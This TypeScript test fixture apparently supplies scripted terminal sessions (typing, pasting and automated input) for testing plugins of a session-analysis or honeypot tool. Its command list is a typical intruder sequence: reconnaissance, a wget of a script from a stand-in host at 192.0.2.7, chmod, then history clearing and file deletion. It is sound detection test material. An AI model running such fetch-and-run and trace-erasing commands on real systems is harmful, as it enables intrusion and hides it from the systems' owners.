import type { RecordedSession } from '../../model/session.ts';
import { scriptedSession } from '../scripted-session.ts';

const PROMPT = 'root@web:~# ';

/** Sessions as they come every day: what a plugin is expected to say something about. */
export function everydaySessions(): readonly RecordedSession[] {
  return [typist(), paster(), program()].map((script, i) =>
    scriptedSession(script, { sid: `everyday-${i}` }),
  );
}

const COMMANDS = [
  ...['uname -a', 'id', 'cat /proc/cpuinfo | grep name | wc -l', 'ls -la /tmp', 'cd /var/log'],
  ...['tail auth.log', 'ps aux', 'netstat -tulpn', 'wget http://192.0.2.7/x.sh', 'chmod 755 x.sh'],
  ...['crontab -l', 'df -h', 'history -c', 'rm -rf x.sh', 'exit'],
];

/** Somebody who types, mistypes, reads, and thinks. */
function typist(): string {
  const lines = COMMANDS.map((command, i) =>
    [
      `waits ${1 + (i % 4)} s`,
      i % 5 === 2 ? 'types "lz" at 140 ms, presses Backspace 2 times at 90 ms' : '',
      `types '${command}' at 130 ms ± 60 ms, presses Enter, waits 200 ms`,
      i % 6 === 3
        ? `shows "bash: no such thing: command not found\\r\\n${PROMPT}"`
        : `shows "${'some words of output\\r\\n'.repeat(1 + i)}${PROMPT}"`,
    ].join('\n'),
  );
  return [`shows "${PROMPT}"`, ...lines].join('\n');
}

/** Somebody who pastes whole lines. */
function paster(): string {
  const lines = COMMANDS.map(
    (command, i) =>
      `waits ${4 + (i % 3)} s, pastes '${command}\\r', waits 100 ms, shows "done\\r\\n${PROMPT}"`,
  );
  return [`shows "${PROMPT}"`, ...lines].join('\n');
}

/** A program that does not wait for answers. */
function program(): string {
  return COMMANDS.map((command) => `waits 20 ms, pastes '${command}\\n'`).join('\n');
}
